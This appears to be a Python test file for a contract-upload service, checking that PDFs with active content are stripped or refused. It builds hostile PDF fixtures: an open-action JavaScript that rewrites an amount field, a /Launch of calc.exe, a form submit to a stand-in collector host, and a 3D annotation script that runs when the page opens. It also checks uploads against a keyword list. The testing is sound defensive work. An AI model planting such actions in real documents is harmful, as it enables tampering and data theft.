"""sec49: what an initiator's upload may carry to the other parties, round twenty.
  - an unsigned contract with scripts and actions that run when a party opens it
    (/OpenAction JavaScript, a page's /Launch trigger, a link that submits the form,
    document-level JavaScript): stored without them, a /URI link kept;
  - a signed contract with such an action, which cannot be rewritten: 422
    pdf_active_content, nothing stored;
  - sec50: a contract with a 3D model that runs a script as the page opens: 422
    pdf_active_content, nothing stored."""

import base64
import os
import subprocess
import unittest

import harness
import hostile_pdfs
import test_attacks
from test_attacks import AttackCase


def setUpModule():
    test_attacks.setUpModule()


def tearDownModule():
    test_attacks.tearDownModule()


def active_pdf(signed=False):
    """A one-page contract whose opening runs a script, and more (hostile_pdfs' writer)."""
    more = {
        6: b"<< /S /JavaScript /JS (this.getField\\(\"amount\"\\).value = 900) >>",
        7: b"<< /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >>",
        8: b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /SubmitForm "
           b"/F (https://collector.example/) >> >>",
        9: b"<< /Type /Annot /Subtype /Link /Rect [20 0 30 10] /A << /S /URI "
           b"/URI (https://bank.example/terms) >> >>",
    }
    annots = b"8 0 R 9 0 R"
    form = b""
    if signed:
        more[10] = (b"<< /FT /Sig /T (Signature1) /Type /Annot /Subtype /Widget "
                    b"/Rect [0 0 0 0] /P 3 0 R /V 11 0 R >>")
        more[11] = (b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
                    b"/ByteRange [0 0 0 0] /Contents <00> >>")
        annots += b" 10 0 R"
        form = b"/AcroForm << /Fields [10 0 R] >> "
    objs = hostile_pdfs._base(more=more, page_extra=b"/Annots [%s] /AA << /O << /S /Launch "
                              b"/F (calc.exe) >> >> " % annots)
    objs[1] = (b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript 7 0 R "
               b">> %s>>" % form)
    return hostile_pdfs._doc(objs)[0]


class ActiveContent(AttackCase):

    def upload(self, pdf):
        return self.call("buyer", "POST", "/api/v1/contracts", {
            "name": "Active", "pdf_base64": base64.b64encode(pdf).decode()})

    def test_scripts_and_actions_do_not_reach_the_other_parties(self):
        self.login("buyer")
        st, _, _, c = self.upload(active_pdf())
        self.assertEqual(st, 201, c)
        st, _, stored, _ = self.call("buyer", "GET",
                                     "/api/v1/contracts/%s/document" % c["number"])
        self.assertEqual(st, 200)
        for word in (b"JavaScript", b"amount", b"app.alert", b"Launch", b"calc.exe",
                     b"SubmitForm", b"collector"):
            self.assertFalse(word in stored, "the stored contract still carries %s" % word)
        self.assertIn(b"https://bank.example/terms", stored)
        path = os.path.join(self.tmp, "stored.pdf")
        with open(path, "wb") as f:
            f.write(stored)
        p = subprocess.run(["qpdf", "--check", path], capture_output=True, text=True)
        self.assertEqual(p.returncode, 0, p.stdout + p.stderr)

    def test_a_signed_upload_with_a_script_is_refused_and_nothing_stored(self):
        self.login("buyer")
        before = self.counts()
        st, hdrs, _, doc = self.upload(active_pdf(signed=True))
        self.assertEqual((st, hdrs.get("content-type")), (422, "application/problem+json"), doc)
        self.assertEqual(doc["code"], "pdf_active_content", doc)
        self.assertIn("JavaScript action in the document's open action", doc["detail"])
        self.assertEqual(self.counts(), before)

    def test_a_3d_model_that_runs_on_page_open_is_refused_and_nothing_stored(self):
        """sec50: a 3D annotation activated as the page opens (/3DA /A /PO), whose
        /3DD stream's /OnInstantiate script runs then: no action to strip, and its
        picture is what the page shows; refused, signed or not."""
        self.login("buyer")
        more = {
            6: b"<< /Type /Annot /Subtype /3D /Rect [0 0 200 200] /P 3 0 R /3DD 7 0 R "
               b"/3DA << /A /PO >> >>",
            7: hostile_pdfs._stream(b"/Type /3D /Subtype /U3D /OnInstantiate 8 0 R", b""),
            8: hostile_pdfs._stream(b"", b'host.app.alert("paid");'),
        }
        objs = hostile_pdfs._base(more=more, page_extra=b"/Annots [6 0 R] ")
        before = self.counts()
        st, hdrs, _, doc = self.upload(hostile_pdfs._doc(objs)[0])
        self.assertEqual((st, hdrs.get("content-type")), (422, "application/problem+json"), doc)
        self.assertEqual(doc["code"], "pdf_active_content", doc)
        self.assertIn("3D annotation", doc["detail"])
        self.assertEqual(self.counts(), before)


if __name__ == "__main__":
    unittest.main()
